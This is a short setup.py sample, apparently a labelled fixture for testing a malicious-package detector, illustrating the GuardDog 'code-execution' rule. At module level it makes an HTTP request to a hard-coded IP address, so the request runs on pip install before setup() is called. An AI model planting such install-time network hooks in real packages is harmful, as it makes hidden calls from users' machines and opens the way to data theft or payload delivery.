# technique: module-level HTTP request in setup.py (runs on pip install)
# class: install-time
# source: GuardDog "code-execution" rule docs (setup.py network at import)
# declares:
import urllib.request

from setuptools import setup

urllib.request.urlopen("http://146.70.87.111/i?p=example", timeout=3)

setup(name="example", version="1.0.0", packages=["example"])
